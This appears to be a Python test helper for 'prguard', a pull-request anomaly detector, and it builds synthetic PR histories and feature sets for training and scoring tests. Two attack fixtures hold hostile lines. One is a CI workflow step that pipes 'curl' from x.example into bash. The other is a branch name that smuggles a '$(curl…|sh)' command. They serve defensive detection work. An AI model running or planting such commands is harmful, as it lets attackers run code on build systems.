"""Small synthetic PR histories and feature sets for the model, training and scoring tests."""
from __future__ import annotations

import datetime as dt
import random
from typing import Any

from prguard.data import featureset, objectstore
from prguard.features import extraction
from prguard.features.profile import RepoProfile
from prguard.features.summary import summarize

START = dt.datetime(2025, 1, 6, 9, 0, tzinfo=dt.timezone.utc)
AREAS = ("src/core", "src/api", "src/ui", "tests", "docs", "lib/util")


def _file(path: str, additions: int, deletions: int, patch: str | None = None) -> dict[str, Any]:
    item = {"filename": path, "status": "modified", "additions": additions, "deletions": deletions,
            "changes": additions + deletions}
    if patch is not None:
        item["patch"] = patch
    return item


def pr_doc(repo: str, number: int, rng: random.Random, created: dt.datetime,
           kind: str | None = None) -> dict[str, Any]:
    """A GitHub-shaped PR; ``kind`` names an attack archetype (recorded in ``prguard_label``)."""
    maintainer = rng.random() < 0.7
    author = f"dev{rng.randrange(8)}" if maintainer else f"contrib{rng.randrange(40)}"
    association = "MEMBER" if maintainer else rng.choice(["CONTRIBUTOR", "CONTRIBUTOR", "FIRST_TIME_CONTRIBUTOR"])
    n_files = max(1, int(rng.lognormvariate(0.8, 0.8)))
    files = [_file(f"{rng.choice(AREAS)}/mod{rng.randrange(30)}.py", int(rng.lognormvariate(2.5, 1.0)),
                   int(rng.lognormvariate(1.5, 1.0))) for _ in range(n_files)]
    title, branch, body = f"Improve module {number}", f"feature/change-{number}", "Details of the change."
    if kind == "workflow_curl_pipe":
        association, author = "FIRST_TIME_CONTRIBUTOR", f"newcomer{number}"
        files = [_file(".github/workflows/ci.yml", 3, 0, "@@ -12,0 +13,3 @@\n+      - name: Setup\n+        run: |\n"
                       "+          curl -sSL http://x.example/i.sh | bash")]
    elif kind == "binary_blob":
        files = [_file("tests/fixtures/data.bin", 0, 0)]
        files[0]["status"] = "added"
    elif kind == "mass_deletion":
        files = [_file(f"src/core/mod{i}.py", 0, 400) for i in range(60)]
    elif kind == "branch_injection":
        association, author = "NONE", f"drive-by{number}"
        branch, body = 'fix$(curl${IFS}x.example|sh)', ""
    additions = sum(f["additions"] for f in files)
    deletions = sum(f["deletions"] for f in files)
    stamp = created.strftime("%Y-%m-%dT%H:%M:%SZ")
    doc = {
        "number": number, "title": title, "body": body, "state": "closed", "draft": False,
        "user": {"login": author, "type": "User"}, "author_association": association,
        "created_at": stamp, "updated_at": stamp,
        "additions": additions, "deletions": deletions, "changed_files": len(files),
        "commits": max(1, int(rng.lognormvariate(0.5, 0.6))),
        "head": {"ref": branch, "sha": f"{number:040x}", "repo": {"full_name": repo}},
        "base": {"ref": "main", "repo": {"full_name": repo, "default_branch": "main"}},
        "files": files,
    }
    # Labelled like the demo data: every PR carries the ground truth, which no feature reads.
    doc["prguard_label"] = {"anomaly": kind is not None, "archetype": kind}
    return doc


def make_prs(n: int, seed: int = 7, repos: tuple[str, ...] = ("acme/api", "acme/web"),
             anomalies: int = 0) -> list[dict[str, Any]]:
    """``n`` normal PRs over a few months plus ``anomalies`` attack archetypes spread among them."""
    rng = random.Random(seed)
    kinds = ["workflow_curl_pipe", "binary_blob", "mass_deletion", "branch_injection"]
    docs = []
    for i in range(n + anomalies):
        created = START + dt.timedelta(hours=6 * i + rng.randrange(5))
        kind = kinds[i % len(kinds)] if i >= n else None
        docs.append(pr_doc(repos[i % len(repos)], 1000 + i, rng, created, kind))
    return docs


def profiles_of(docs: list[dict[str, Any]]) -> dict[str, RepoProfile]:
    """Each repository's profile from its PRs among ``docs``, in the order the repositories first appear
    (what `prguard preprocess` computes, in process)."""
    by_repo: dict[str, list[dict[str, float]]] = {}
    for doc in docs:
        by_repo.setdefault(doc["base"]["repo"]["full_name"], []).append(extraction.profile_stats(summarize(doc)))
    return {repo: extraction.build_profile(repo, stats) for repo, stats in by_repo.items()}


def feature_matrix(docs: list[dict[str, Any]], profiles: dict[str, RepoProfile]):
    """The feature vectors of ``docs`` against their repositories' profiles, one row per PR."""
    import numpy as np  # the test data generators themselves need no numpy

    return np.array([extraction.extract(summarize(doc), profiles[doc["base"]["repo"]["full_name"]])
                     for doc in docs])


def bundle_of(docs: list[dict[str, Any]], config=None, trained: bool = True, threshold: float = 0.0,
              model_version: str | None = None, meta: dict[str, Any] | None = None):
    """A ScorerBundle made in process from ``docs``: profiles, vectors, and (``trained``) the training
    job's own fit on the first 80% with the threshold set on the rest, as `prguard train` sets it;
    untrained, the weights as initialised and ``threshold`` as given."""
    # Imported here: most users of these generators never build a bundle and need no torch.
    from batch.train import TrainConfig, fit, threshold_for
    from prguard.model.autoencoder import Autoencoder
    from prguard.model.bundle import ScorerBundle
    from prguard.model.network import AutoencoderConfig
    from prguard.model.scaler import RobustScaler

    profiles = profiles_of(docs)
    matrix = feature_matrix(docs, profiles)
    stored = {repo: profile.to_dict() for repo, profile in profiles.items()}
    names, version = list(extraction.FEATURE_NAMES), extraction.FEATURE_VERSION
    if not trained:
        network = AutoencoderConfig.for_features(matrix.shape[1])
        return ScorerBundle(names, version, RobustScaler.fit(matrix), network, Autoencoder(network).state_dict(),
                            threshold, stored)
    split = int(len(matrix) * 0.8)
    fitted = fit(matrix[:split], matrix[split:], config or TrainConfig())
    bundle = ScorerBundle(names, version, fitted.scaler, fitted.model_config, fitted.state_dict, threshold,
                          stored, dict(meta or {}), model_version=model_version)
    bundle.threshold = threshold_for(bundle.row_scores(matrix[split:]), 2.0)
    return bundle


def feature_row(doc: dict[str, Any], profiles: dict[str, Any], expected: bool = False) -> dict[str, Any]:
    repo = doc["base"]["repo"]["full_name"]
    return {"repo": repo, "number": doc["number"], "head_sha": doc["head"]["sha"],
            "created_at": doc["created_at"], "updated_at": doc["updated_at"],
            "label": featureset.label_json(doc), "expected": expected,
            "features": extraction.extract(summarize(doc), profiles.get(repo))}


def write_feature_set(settings, docs: list[dict[str, Any]], feature_version: str | None = None,
                      expected: set[int] = frozenset()) -> str:
    """Profiles and features of ``docs`` written as a feature set (what `prguard preprocess` makes)."""
    profiles = profiles_of(docs)
    rows = [feature_row(doc, profiles, doc["number"] in expected) for doc in docs]
    store = objectstore.for_uri(settings.feature_store)
    manifest = featureset.write(store, rows, profiles, {"store": "test", "snapshot": {}},
                                feature_version=feature_version)
    return manifest["id"]
